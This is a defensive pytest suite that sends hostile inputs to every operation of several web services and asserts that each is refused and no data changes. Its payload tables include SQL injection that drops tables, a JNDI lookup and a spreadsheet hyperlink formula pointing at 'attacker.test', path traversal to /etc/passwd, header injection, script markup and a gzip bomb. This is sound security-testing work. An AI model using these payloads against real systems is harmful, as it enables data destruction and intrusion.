"""Every operation of every service under what a caller can put into it: refused or harmless, and nothing is changed.

The operations, their places and their bodies come from each service's OpenAPI document, so a new one is tried at once.
"""

import gzip
import os
import zlib
from collections import Counter
from collections.abc import AsyncIterator, Iterable, Iterator, Mapping
from itertools import cycle
from typing import TYPE_CHECKING, Any, Final, NamedTuple
from urllib.parse import quote

import httpx
import pytest
import pytest_asyncio

from shared.http.security_headers import SECURITY_HEADERS
from tests.support.crawling.services import DEFINITIONS
from tests.support.figures import Note
from tests.support.fuzzing.sending import sending_to
from tests.support.running_service import RunningService, running

if TYPE_CHECKING:
    from tests.support.databases import Databases

pytestmark = [pytest.mark.asyncio(loop_scope="module"), pytest.mark.xdist_group("hostile-requests")]

IN_FULL: Final = os.environ.get("ACCORD_HOSTILE") == "full"
"""Whether everything is put everywhere; else each place gets some, in turn, so that all are put somewhere."""
EACH: Final = 3
SMALL: Final = 1000
READ_EVERYWHERE: Final = ("Accept-Language", "X-Correlation-Id", "traceparent", "X-Forwarded-For", "Origin", "Cookie")

Place = tuple[str, str]

SOME_ID: Final = "018f2f6e-7c1c-7c6e-9d4e-0c5a3f1f9a11"
JSON: Final = "application/json"

HOSTILE: Final = {
    "SQL that is always true": "' OR '1'='1",
    "SQL that drops": "x'; DROP TABLE needs; DROP TABLE offers; DROP TABLE matches; --",
    "SQL that unites": "') UNION SELECT version(), current_user --",
    "SQL that waits": "\\' OR pg_sleep(30) IS NULL --",
    "SQL in dollars": "$$; DELETE FROM outbox; $$",
    "a pattern": "%_%",
    "a format": "%s%n{0}{__class__}${jndi:ldap://attacker.test}",
    "a null character": "a\0b",
    "a line end": "a\r\nSet-Cookie: b=c",
    "a huge number": "9" * 4000,
    "a number beyond 64 bits": str(2**63),
    "a number below": str(-(2**63) - 1),
    "a number that is none": "NaN",
    "an endless number": "1e999",
    "a path": "../../../../etc/passwd",
    "a text in another direction": "\u202egnp.\u2066",
    "a letter of many marks": "a" + "\u0301" * 200,
    "a character outside the plane": "\U0001f4a9\U000e0001",
    "markup": '"><script>alert(1)</script>',
    "an expression": '=HYPERLINK("http://attacker.test")',
    "a document": '{"$ne": null}',
    "a very long text": "x" * 9000,
    "nothing": "",
    "spaces": "   ",
}
RAW: Final = ("%ED%A0%80", "%FF%FE", "%C0%AE%C0%AE%2F", "%F5%80%80%80", "%00", "%25%30%30", "%u0000", "%")
"""Parts of addresses that no text can be written as: surrogates, overlong forms, and escapes of nothing."""

BOMB: Final = gzip.compress(b'{"texts": "' + b" " * 8_000_000 + b'"}')

UNREADABLE: Final[Mapping[str, tuple[bytes, Mapping[str, str], int]]] = {
    "a form": (b"texts=a", {"Content-Type": "application/x-www-form-urlencoded"}, 415),
    "a form in parts": (b"--x\r\n\r\n{}\r\n--x--", {"Content-Type": "multipart/form-data; boundary=x"}, 415),
    "parts without a boundary": (b"{}", {"Content-Type": "multipart/form-data"}, 415),
    "plain text": (b"{}", {"Content-Type": "text/plain"}, 415),
    "JSON as text": (b"{}", {"Content-Type": "text/json"}, 415),
    "XML": (b"<a/>", {"Content-Type": "application/xml"}, 415),
    "YAML": (b"a: 1", {"Content-Type": "application/yaml"}, 415),
    "two media types in one": (b"{}", {"Content-Type": "application/json, text/plain"}, 415),
    "a media type with more behind it": (b"{}", {"Content-Type": "application/jsonp"}, 415),
    "a media type in a parameter": (b"{}", {"Content-Type": "text/plain; application/json"}, 415),
    "an empty media type": (b"{}", {"Content-Type": ""}, 415),
    "no media type": (b"{}", {}, 415),
    "a gzip bomb": (BOMB, {"Content-Type": JSON, "Content-Encoding": "gzip"}, 415),
    "a bomb by another name": (BOMB, {"Content-Type": JSON, "Content-Encoding": "x-gzip"}, 415),
    "a deflated body": (zlib.compress(b"{}"), {"Content-Type": JSON, "Content-Encoding": "deflate"}, 415),
    "two codings": (BOMB, {"Content-Type": JSON, "Content-Encoding": "identity, gzip"}, 415),
    "a coding of no name": (b"{}", {"Content-Type": JSON, "Content-Encoding": ""}, 415),
    "a bomb that is not announced": (BOMB, {"Content-Type": JSON}, 400),
    "UTF-16, announced": ("{}".encode("utf-16"), {"Content-Type": "application/json; charset=utf-16"}, 400),
    "UTF-7, announced": (b"+AHsAfQ-", {"Content-Type": "application/json; charset=utf-7"}, 400),
    "a byte order mark": (b"\xef\xbb\xbf{}", {"Content-Type": JSON}, 400),
    "Latin-1": (b'{"a": "\xe9"}', {"Content-Type": "application/json; charset=latin-1"}, 400),
    "a name twice": (b'{"reason": "a", "reason": "b"}', {"Content-Type": JSON}, 400),
    "more behind the document": (b"{} {}", {"Content-Type": JSON}, 400),
    "a comment": (b"{} // no", {"Content-Type": JSON}, 400),
    "a number that is none": (b'{"a": NaN}', {"Content-Type": JSON}, 400),
    "a number of 5,000 digits": (b'{"a": ' + b"9" * 5000 + b"}", {"Content-Type": JSON}, 400),
    "a lone surrogate": (rb'{"a": "\udc00"}', {"Content-Type": JSON}, 400),
    "a null character": (rb'{"a": "\u0000"}', {"Content-Type": JSON}, 400),
    "33 levels": (b"[" * 33 + b"]" * 33, {"Content-Type": JSON}, 400),
    "100,000 levels": (b"[" * 100_000, {"Content-Type": JSON}, 400),
    "a mebibyte and a byte": (b" " * (1024 * 1024 + 1), {"Content-Type": JSON}, 413),
}
"""Bodies with their headers, and how each is refused whatever it was sent to."""


class Operation(NamedTuple):
    """One method of one path; `places` are where a caller can put something, in the address and in the head."""

    method: str
    path: str
    places: tuple[Place, ...]
    takes_a_body: bool


def operations(document: Mapping[str, Any]) -> Iterator[Operation]:
    for path, methods in document["paths"].items():
        for method, said in methods.items():
            places = tuple((each["in"], each["name"]) for each in said.get("parameters", ()))
            yield Operation(method.upper(), path, places, "requestBody" in said)


@pytest_asyncio.fixture(scope="module", loop_scope="module", params=list(DEFINITIONS))
async def service(request: pytest.FixtureRequest, databases: "Databases") -> AsyncIterator[RunningService]:
    url = await databases.create_for_service(request.param)
    async with running(DEFINITIONS[request.param], url) as service:
        yield service
    await databases.drop(url)


async def send(
    client: httpx.AsyncClient, operation: Operation, place: Place | None = None, raw: str = "", **more: Any
) -> httpx.Response:
    """Ask for an operation; `raw`, as it is written in an address or a head, stands in one of its places."""
    where, name = place or ("", "")
    path = operation.path.replace(f"{{{name}}}", raw) if where == "path" else operation.path
    before, *others = path.split("{") if where != "path" or "{" not in raw else [path]
    address = before + "".join(SOME_ID + part.partition("}")[2] for part in others)
    query = f"?{quote(name)}={raw}" if where == "query" else ""
    headers: list[tuple[bytes, bytes]] = [(b"if-match", b'"1"')] if name != "If-Match" else []
    headers += [(key.lower().encode(), value.encode()) for key, value in more.get("headers", {}).items()]
    if where == "header":
        headers.append((name.lower().encode(), raw.encode()))
    request = client.build_request(operation.method, f"{address}{query}", content=more.get("content", b""))
    every = [*request.headers.raw, *headers]
    return await client.send(httpx.Request(operation.method, request.url, headers=every, content=request.content))


def wrong_with(answer: httpx.Response) -> str | None:
    """Say what is wrong with the answer to something hostile."""
    said = str(answer.headers)
    if answer.status_code >= 500 or answer.extensions.get("failure"):
        return f"failed with {answer.status_code}: {answer.text[:300]}"
    if answer.status_code >= 400 and answer.headers["content-type"] != "application/problem+json":
        return "no problem document"
    if "set-cookie" in answer.headers or any(end in said for end in ("\\r", "\\n", "\\x00")):
        return f"something of the caller's own in the head: {said}"
    missing = [name for name in SECURITY_HEADERS if name not in answer.headers]
    return f"without {missing}" if missing else None


async def kept_in(service: RunningService) -> Counter[str]:
    """Return how many rows each table holds."""
    names = await service.rows("SELECT tablename FROM pg_tables WHERE schemaname = 'public'")
    return Counter(await service.count(*(row["tablename"] for row in names)))


async def hostile_answers(
    service: RunningService, tried: Iterable[tuple[Operation, Place, str]]
) -> tuple[int, list[str]]:
    """Send each value to its place; return how many requests that were, and what was wrong with the answers."""
    asked, wrong = 0, list[str]()
    async with sending_to(service.app) as client:
        client.headers.update(service.forge.as_coordinator())
        for operation, place, raw in tried:
            asked += 1
            said = wrong_with(await send(client, operation, place, raw))
            wrong += [f"{operation.method} {operation.path} {place} {raw[:60]}: {said}"] if said else []
    return asked, wrong


async def test_a_body_that_cannot_be_read_is_refused_by_every_operation(service: RunningService, note: Note) -> None:
    before, asked = await kept_in(service), 0
    takers = [each for each in operations(service.app.openapi()) if each.takes_a_body]
    small = cycle(name for name, (content, *_) in UNREADABLE.items() if len(content) < SMALL)
    async with sending_to(service.app) as client:
        client.headers.update(service.forge.as_coordinator())
        for number, operation in enumerate(takers):
            for name in [next(small) for _ in range(EACH)] if number and not IN_FULL else UNREADABLE:
                asked += 1
                content, headers, status = UNREADABLE[name]
                answer = await send(client, operation, content=content, headers=headers)
                assert (answer.status_code, wrong_with(answer)) == (status, None), (name, operation, answer.text)
    assert await kept_in(service) == before
    note(f"unreadable bodies at {service.app.title}: {asked} requests at {len(takers)} operations, all refused")


async def test_nothing_hostile_in_any_place_fails_or_changes_anything(service: RunningService, note: Note) -> None:
    before = await kept_in(service)
    in_addresses = [*RAW, *(quote(value, safe="") for value in HOSTILE.values())]
    values = {"header": list(HOSTILE.values()), "path": in_addresses, "query": in_addresses}
    some = {where: cycle(each) for where, each in values.items()}
    asked, wrong = await hostile_answers(
        service,
        (
            (operation, place, raw)
            for operation in operations(service.app.openapi())
            if not operation.path.endswith("stream")
            for place in operation.places
            for raw in (values[place[0]] if IN_FULL else [next(some[place[0]]) for _ in range(EACH)])
        ),
    )
    assert wrong == []
    assert await kept_in(service) == before
    note(f"hostile values at {service.app.title}: {asked} requests, none failed, nothing changed")


async def test_nothing_hostile_in_a_header_that_every_operation_reads_fails(service: RunningService) -> None:
    listing = next(each for each in operations(service.app.openapi()) if each.method == "GET" and "{" not in each.path)
    tried = ((listing, ("header", name), value) for name in READ_EVERYWHERE for value in HOSTILE.values())
    asked, wrong = await hostile_answers(service, tried)
    assert (asked, wrong) == (len(READ_EVERYWHERE) * len(HOSTILE), [])
